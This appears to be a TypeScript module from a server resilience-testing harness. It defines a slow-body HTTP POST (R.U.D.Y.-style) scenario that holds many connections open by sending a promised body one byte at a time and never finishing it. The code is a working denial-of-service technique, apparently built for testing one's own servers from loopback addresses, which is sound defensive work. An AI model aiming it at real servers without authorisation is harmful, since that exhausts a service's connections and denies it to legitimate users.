// The slow upload: a complete head that promises a body, then the body at a crawl and never to its end. Whoever hands the
// request to an origin at its head gives a place there to somebody who will not use it; a slow line does the same without
// any malice. In its report `longestHeldMs` is the longest the server kept any connection.
import { defineHostile } from '../../core/contracts.ts'
import { count, number } from '../../core/parameters.ts'
import { HeldConnections, loopbackAddresses } from '../held-connections.ts'

export default defineHostile({
  about: 'Sends a request head and then its body one byte at a time.',
  source: 'CAPEC-469; OWASP, R.U.D.Y. (R-U-Dead-Yet) 2010; slowhttptest, slow body mode',
  params: {
    connections: count({ default: 50, min: 1, max: 10_000, unit: 'connections', doc: 'held; ended ones are replaced' }),
    addresses: count({ default: 5, min: 1, max: 250, unit: 'addresses', doc: 'sources, 127.0.4.1 and up' }),
    bytes: count({ default: 1_000_000, min: 1, max: 1e12, unit: 'bytes', doc: 'the length the head promises' }),
    firstBytes: count({ default: 0, min: 0, max: 16_777_216, unit: 'bytes', doc: 'of the body, sent with the head' }),
    dripMs: number({ default: 200, min: 1, max: 600_000, unit: 'ms', doc: 'between two bytes of one connection' }),
    connectionsPerSecond: number({ default: 200, min: 1, max: 20_000, unit: '1/s', doc: 'openings' }),
  },
  start({ connections, addresses, bytes, firstBytes, dripMs, connectionsPerSecond }, context) {
    const plan = {
      addresses: loopbackAddresses(4, addresses),
      connectionsPerSecond,
      maxHeld: connections,
      replaced: true,
    }
    const head = `POST / HTTP/1.1\r\nhost: ${context.host}:${context.port}\r\ncontent-length: ${bytes}\r\n\r\n`
    // The last byte is never sent: the upload has no end.
    const first = Math.min(firstBytes, bytes - 1)
    const beginning = head + 'a'.repeat(first)
    return new HeldConnections<{ left: number }>(context, plan, {
      turnMs: dripMs,
      begin(socket) {
        socket.write(beginning, 'latin1')
        return { left: bytes - 1 - first }
      },
      onTurn(socket, state) {
        if (state.left-- > 0) socket.write('a', 'latin1')
      },
      // Any answer, a 408 or a 413 for one, means that the server has given up on the body.
      onBytes: () => false,
    })
  },
})
